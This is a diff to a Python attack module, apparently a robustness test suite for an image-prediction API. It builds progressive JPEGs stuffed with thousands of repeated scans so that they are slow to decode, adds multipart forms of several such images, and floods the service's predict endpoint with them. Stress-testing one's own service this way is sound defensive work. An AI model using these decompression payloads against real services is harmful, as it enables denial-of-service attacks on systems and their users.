@@ -316,16 +316,25 @@ def refused_predictions(port: int, until: float, key: str) -> Counter[str]:
 
 
 def images_of_empty_scans(port: int, until: float, key: str) -> Counter[str]:
-    """Send JPEGs of some 3 MB, each of which would take a minute to decode."""
+    """Send JPEGs that would take a minute to decode, and forms of JPEGs with the most scans that one may have."""
     from PIL import Image  # only this attack needs it
 
-    content = io.BytesIO()
-    Image.new("L", (2000, 2000), 128).save(content, "JPEG", progressive=True)
-    data = content.getvalue()
-    body = data[:-2] + data[data.rindex(b"\xff\xda") : -2] * 40_000 + data[-2:]
+    def add_scans(side: int, scans: int) -> bytes:
+        content = io.BytesIO()
+        Image.new("L", (side, side), 128).save(content, "JPEG", progressive=True)
+        data = content.getvalue()
+        last = data[data.rindex(b"\xff\xda") : -2]
+        return data[:-2] + last * (scans - data.count(b"\xff\xda")) + data[-2:]
+
     target = f"/v1/jobs/{job_named(port, key, 'photos')}/predict"
-    sent = request("POST", target, bearer(key), "Content-Type: image/jpeg", body=body)
-    return flood(port, until, (sent for _ in count()), patience_s=max(2, until - time.monotonic()))
+    sent = [
+        request("POST", target, bearer(key), "Content-Type: image/jpeg", body=add_scans(side, scans))
+        for side, scans in ((2000, 40_000), (7000, 50))
+    ]
+    part = b'--b\r\nContent-Disposition: form-data; name="images"; filename="a.jpg"\r\n\r\n%s\r\n'
+    form = (part % add_scans(4000, 50)) * 12 + b"--b--\r\n"
+    sent.append(request("POST", target, bearer(key), "Content-Type: multipart/form-data; boundary=b", body=form))
+    return flood(port, until, (sent[number % 3] for number in count()), patience_s=max(2, until - time.monotonic()))
 
 
 def studies_of_large_patches(port: int, until: float, key: str) -> Counter[str]:
